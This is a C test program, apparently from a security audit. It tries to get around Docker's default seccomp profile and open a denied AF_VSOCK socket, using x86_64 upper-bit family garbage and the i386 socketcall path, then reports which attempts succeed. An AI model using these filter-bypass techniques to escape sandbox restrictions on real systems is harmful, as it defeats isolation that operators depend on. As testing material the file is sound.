/* Attack on the built-in default (issue 12, item 9): get an AF_VSOCK socket
 * Docker's profile means to deny, (1) on x86_64 with garbage in the upper
 * half of the family (the kernel reads an int), (2) on i386 through
 * socketcall(SYS_SOCKET), whose family is in memory no filter can read.
 * Compiled twice: -m64 for (1), -m32 -nostdlib for (2) (no libc: int $0x80).
 * Prints one line per attempt ("NAME: fd N" or "NAME: errno E") and exits 0
 * when some AF_VSOCK socket was created. */
#define AF_INET 2
#define AF_VSOCK 40
#define SOCK_STREAM 1

#if defined(__i386__)
static long sys(long n, long a, long b, long c) { long r; __asm__ volatile("int $0x80" : "=a"(r) : "a"(n), "b"(a), "c"(b), "d"(c) : "memory"); return r; }
#define NR_WRITE 4
#define NR_EXIT 1
#else
static long sys(long n, long a, long b, long c) {
  long r;
  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return r;
}
#define NR_WRITE 1
#define NR_EXIT 60
#endif

static void say(const char *what, long r) {
  char buf[96];
  int n = 0;
  while (*what) buf[n++] = *what++;
  const char *mid = r < 0 ? ": errno " : ": fd ";
  while (*mid) buf[n++] = *mid++;
  long v = r < 0 ? -r : r;
  char digits[24];
  int d = 0;
  do { digits[d++] = (char)('0' + v % 10); v /= 10; } while (v);
  while (d) buf[n++] = digits[--d];
  buf[n++] = '\n';
  sys(NR_WRITE, 1, (long)buf, n);
}

#if defined(__i386__)
void _start(void) {
  long args[3] = {AF_VSOCK, SOCK_STREAM, 0};
  long vsock = sys(102, 1, (long)args, 0);           /* socketcall(SYS_SOCKET, {AF_VSOCK, ...}) */
  say("i386 socketcall(SYS_SOCKET, AF_VSOCK)", vsock);
  long inet_args[3] = {AF_INET, SOCK_STREAM, 0};
  say("i386 socketcall(SYS_SOCKET, AF_INET)", sys(102, 1, (long)inet_args, 0));
  say("i386 socket(AF_VSOCK)", sys(359, AF_VSOCK, SOCK_STREAM, 0));
  say("i386 socket(AF_INET)", sys(359, AF_INET, SOCK_STREAM, 0));
  sys(NR_EXIT, vsock >= 0 ? 0 : 1, 0, 0);
  for (;;) {}
}
#else
int main(void) {
  long vsock = sys(41, (1L << 32) | AF_VSOCK, SOCK_STREAM, 0);
  say("x86_64 socket(AF_VSOCK | 1 << 32)", vsock);
  say("x86_64 socket(AF_VSOCK)", sys(41, AF_VSOCK, SOCK_STREAM, 0));
  say("x86_64 socket(AF_INET)", sys(41, AF_INET, SOCK_STREAM, 0));
  return vsock >= 0 ? 0 : 1;
}
#endif
